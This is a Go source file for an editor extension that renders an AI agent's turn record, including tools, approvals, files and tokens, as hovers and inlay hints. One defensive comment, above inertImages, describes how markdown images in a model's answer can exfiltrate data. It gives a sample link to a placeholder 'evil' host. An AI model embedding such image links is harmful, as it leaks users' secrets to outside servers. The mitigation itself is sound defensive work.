// Package annotate is what the editor shows of a turn on the line it was asked from: the turn's
// record, kept up to date from its events and rendered as a hover (markdown) and an inlay hint (one
// short line), and the origins: the lines turns were asked from, as document marks.
package annotate

// This file is what the editor shows of a turn where it was asked: a turn's record, kept up to date
// from its events, rendered as a hover (markdown) and as an inlay hint (one short line).

import (
	"fmt"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"time"

	"github.com/hermes-lsp/hermes-lsp/agenthost"
	"github.com/hermes-lsp/hermes-lsp/hermesproto"
	"github.com/hermes-lsp/hermes-lsp/workspace"
)

// Bounds of a turn record: it lives as long as its origin line, so it keeps no more than a hover
// can show.
const (
	recordAnswerMax    = 32 << 10 // bytes of the answer kept
	recordToolsMax     = 30       // tool rows kept (the count goes on)
	recordApprovalsMax = 20
	recordFilesMax     = 50
)

// Turn record states.
const (
	stateRunning = "running"
	stateDone    = "done"
	stateFailed  = "failed"
	stateStopped = "stopped"
)

// toolRow is one tool call of a turn, as the hover lists it.
type toolRow struct {
	name, preview string
	done, isError bool
	exitCode      *int
	took          time.Duration
}

// Record is a turn as its origin line shows it. The turn's follower writes it; hover and inlay
// hint requests read it.
type Record struct {
	mu         sync.Mutex
	prompt     string
	folder     string
	threadID   string
	turnID     string
	state      string            // running until the turn ends
	step       string            // what it does now
	waiting    map[string]string // approvals asked and not answered: summary by id
	answer     strings.Builder
	cut        bool // the answer was longer than recordAnswerMax
	tools      []toolRow
	toolCount  int
	files      []string
	approvals  []string
	usage      hermesproto.Usage
	transcript string
	sawDiff    bool // codex reported a diff of the turn: files changed, patches or commands
}

// NewRecord is the record of a turn of folder, asked with prompt, before its first event.
func NewRecord(folder, prompt, threadID, turnID string) *Record {
	return &Record{folder: folder, prompt: prompt, threadID: threadID, turnID: turnID, state: stateRunning}
}

// Apply takes a turn event into the record. It reports whether the inlay hint's label changed.
func (r *Record) Apply(ev hermesproto.Event) bool {
	r.mu.Lock()
	defer r.mu.Unlock()
	switch ev.Kind {
	case hermesproto.EventKindAnswerDelta:
		if r.answer.Len()+len(ev.Text) <= recordAnswerMax {
			r.answer.WriteString(ev.Text)
		} else {
			r.cut = true
		}
		if r.step == "answering" {
			return false // the label is the same: an answer streams in many deltas
		}
	case hermesproto.EventKindReasoningDelta:
		if r.step == "thinking" {
			return false
		}
	}
	before := r.labelLocked()
	switch ev.Kind {
	case hermesproto.EventKindAnswerDelta:
		r.step = "answering"
	case hermesproto.EventKindReasoningDelta:
		r.step = "thinking"
	case hermesproto.EventKindToolStarted:
		r.step = ev.Tool.Preview
		if r.step == "" {
			r.step = ev.Tool.Name
		}
		r.toolCount++
		if len(r.tools) < recordToolsMax {
			r.tools = append(r.tools, toolRow{name: ev.Tool.Name, preview: r.relative(ev.Tool.Preview)})
		}
	case hermesproto.EventKindToolCompleted:
		r.toolDoneLocked(ev.Tool)
	case hermesproto.EventKindApprovalWaiting:
		if r.waiting == nil {
			r.waiting = make(map[string]string)
		}
		r.waiting[ev.Approval.ID] = ev.Approval.Summary
	case hermesproto.EventKindApprovalResolved:
		delete(r.waiting, ev.Approval.ID)
		if len(r.approvals) < recordApprovalsMax {
			r.approvals = append(r.approvals, approvalLine(*ev.Approval))
		}
	case hermesproto.EventKindUsage:
		r.usage = *ev.Usage
	case hermesproto.EventKindCompaction:
		r.step = "compacting the context"
	case hermesproto.EventKindDiff:
		r.sawDiff = r.sawDiff || strings.TrimSpace(ev.Diff) != ""
	case hermesproto.EventKindTurnCompleted:
		r.endLocked(ev.Result)
	}
	return r.labelLocked() != before
}

// toolDoneLocked marks the newest unfinished row of the tool as done and notes the files a patch
// changed.
func (r *Record) toolDoneLocked(t *hermesproto.ToolEvent) {
	r.step = t.Preview
	for i := len(r.tools) - 1; i >= 0; i-- {
		if row := &r.tools[i]; !row.done && row.name == t.Name {
			row.done, row.isError, row.exitCode, row.took = true, t.IsError, t.ExitCode, time.Duration(t.DurationMs)*time.Millisecond
			if t.Preview != "" {
				row.preview = r.relative(t.Preview)
			}
			break
		}
	}
	if t.Name != "apply_patch" || t.IsError {
		return
	}
	for _, c := range t.Changes {
		path := c.Path
		if rel, inside := workspace.Rel(r.folder, path); inside {
			path = rel
		}
		if len(r.files) < recordFilesMax && !slices.Contains(r.files, path) {
			r.files = append(r.files, path)
		}
	}
}

// relative shortens the folder's paths in s (a patch's preview names them absolute).
func (r *Record) relative(s string) string {
	if r.folder == "" {
		return s
	}
	return strings.ReplaceAll(s, r.folder+string(filepath.Separator), "")
}

// endLocked records the turn's result.
func (r *Record) endLocked(res *hermesproto.Result) {
	r.step = ""
	r.waiting = nil
	if res == nil {
		r.state = stateFailed
		return
	}
	switch {
	case res.Completed:
		r.state = stateDone
	case res.Status == agenthost.StatusInterrupted:
		r.state = stateStopped
	default:
		r.state = stateFailed
	}
	// The result's text is the whole answer (and, for a failure, what to do next).
	if text := strings.TrimSpace(res.FinalText); text != "" && (res.Completed || r.answer.Len() == 0) {
		r.answer.Reset()
		r.cut = len(text) > recordAnswerMax
		r.answer.WriteString(text[:min(len(text), recordAnswerMax)])
	}
	if res.Error != "" && !res.Completed {
		r.step = FirstLine(res.Error)
	}
	r.usage = res.Usage
	r.transcript = res.TranscriptPath
	if r.turnID == "" {
		r.turnID = res.TurnID
	}
}

// ChangedFiles reports whether the turn changed files (a patch, or a diff codex reported).
func (r *Record) ChangedFiles() bool {
	r.mu.Lock()
	defer r.mu.Unlock()
	return len(r.files) > 0 || r.sawDiff
}

// Label is the inlay hint: the turn's state in a few characters.
func (r *Record) Label() string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.labelLocked()
}

func (r *Record) labelLocked() string {
	switch r.state {
	case stateRunning:
		if len(r.waiting) > 0 {
			return "⏸ approval"
		}
	case stateDone:
		l := fmt.Sprintf("✓ done · %d tools", r.toolCount)
		if r.toolCount == 1 {
			l = "✓ done · 1 tool"
		}
		if r.usage.Total > 0 {
			l += " · " + compactTokens(r.usage.Total) + " tok"
		}
		return l
	case stateFailed:
		return "✗ failed"
	case stateStopped:
		return "■ stopped"
	}
	step := r.step
	if step == "" {
		step = "working"
	}
	return "⋯ " + agenthost.Truncate(oneLineOf(step), 40)
}

// compactTokens writes a token count as 812, 6.0k, 12k or 1.2M.
func compactTokens(n int64) string {
	if n >= 1000 && n < 10_000 {
		return fmt.Sprintf("%.1fk", float64(n)/1000)
	}
	return CompactCount(n)
}

// Hover is the turn in markdown: the prompt, the state, the answer so far, the tools, the files,
// the approvals, the tokens and the transcript.
func (r *Record) Hover() string {
	r.mu.Lock()
	defer r.mu.Unlock()
	var b strings.Builder
	fmt.Fprintf(&b, "**Hermes** · %s\n\n", r.stateLineLocked())
	fmt.Fprintf(&b, "> %s\n\n", strings.ReplaceAll(escapeMarkdown(agenthost.Truncate(strings.TrimSpace(r.prompt), 500)), "\n", "\n> "))
	if r.answer.Len() > 0 {
		b.WriteString(r.answer.String())
		if r.cut {
			b.WriteString("\n\n*(the answer goes on in the transcript)*")
		}
		b.WriteString("\n\n")
	}
	if len(r.tools) > 0 {
		b.WriteString("**Tools**\n\n")
		for _, t := range r.tools {
			fmt.Fprintf(&b, "- `%s` %s %s\n", t.name, agenthost.MarkdownCode(agenthost.Truncate(t.preview, 80)), toolStatus(t))
		}
		if more := r.toolCount - len(r.tools); more > 0 {
			fmt.Fprintf(&b, "- … and %d more\n", more)
		}
		b.WriteString("\n")
	}
	if len(r.files) > 0 {
		b.WriteString("**Files changed**: ")
		for i, f := range r.files {
			if i > 0 {
				b.WriteString(", ")
			}
			b.WriteString(agenthost.MarkdownCode(f))
		}
		b.WriteString("\n\n")
	}
	if len(r.approvals) > 0 {
		b.WriteString("**Approvals**\n\n")
		for _, a := range r.approvals {
			fmt.Fprintf(&b, "- %s\n", a)
		}
		b.WriteString("\n")
	}
	if r.usage.Total > 0 {
		fmt.Fprintf(&b, "%s tokens", compactTokens(r.usage.Total))
		if pct := r.usage.ContextPercent(); pct > 0 {
			fmt.Fprintf(&b, " · %d%% context", pct)
		}
		b.WriteString("\n\n")
	}
	if r.transcript != "" {
		fmt.Fprintf(&b, "Transcript: %s\n", r.transcript)
	}
	return inertImages(strings.TrimRight(b.String(), "\n") + "\n")
}

// inertImages puts a zero-width space between every "!" and "[" of s, so no markdown image
// ("![alt](url)", "![alt][ref]") forms anywhere: the answer is the model's, and an editor that
// showed its image would fetch the URL, sending out whatever words the model put in it
// (![x](https://evil/?q=secret)). What would have been an image is a link to click; in code the
// space is invisible. Nothing is parsed, so no markdown can hide an image from it.
func inertImages(s string) string {
	return strings.ReplaceAll(s, "![", "!\u200b[")
}

func (r *Record) stateLineLocked() string {
	switch r.state {
	case stateRunning:
		for _, what := range r.waiting {
			return "waiting for approval: " + agenthost.MarkdownCode(agenthost.Truncate(oneLineOf(what), 100))
		}
		if r.step != "" {
			return "running: " + agenthost.MarkdownCode(agenthost.Truncate(oneLineOf(r.step), 100))
		}
		return "running"
	case stateFailed, stateStopped:
		if r.step != "" {
			return r.state + ": " + agenthost.Truncate(r.step, 200)
		}
	}
	return r.state
}

// toolStatus is a tool row's outcome: running, ✓/✗ with the exit code, and how long it took.
func toolStatus(t toolRow) string {
	if !t.done {
		return "⋯"
	}
	s := "✓"
	if t.isError {
		s = "✗"
	}
	if t.exitCode != nil {
		s += fmt.Sprintf(" exit %d", *t.exitCode)
	}
	if t.took > 0 {
		s += " · " + t.took.Round(100*time.Millisecond).String()
	}
	return s
}

// approvalLine is an answered approval in words: "✓ allowed once by you: `go test ./...`".
func approvalLine(a hermesproto.Approval) string {
	what := map[hermesproto.Decision]string{
		hermesproto.DecisionOnce: "✓ allowed once", hermesproto.DecisionSession: "✓ allowed for the session",
		hermesproto.DecisionDeny: "✗ denied", hermesproto.DecisionStop: "✗ denied, turn stopped",
	}[a.Decision]
	if what == "" {
		what = "… " + string(a.Decision)
	}
	by := "by you"
	switch a.DecidedBy {
	case "", "user":
	case "policy":
		by = "automatically"
	default:
		by = "(" + a.DecidedBy + ")"
	}
	return what + " " + by + ": " + agenthost.MarkdownCode(agenthost.Truncate(oneLineOf(a.Summary), 120))
}

// escapeMarkdown keeps the person's words as written: markdown's emphasis and code marks escaped.
func escapeMarkdown(s string) string {
	return strings.NewReplacer(`\`, `\\`, "*", `\*`, "_", `\_`, "`", "\\`", "[", `\[`, "<", `\<`).Replace(s)
}

// oneLineOf is s with its line breaks as spaces.
func oneLineOf(s string) string {
	return strings.Join(strings.Fields(s), " ")
}
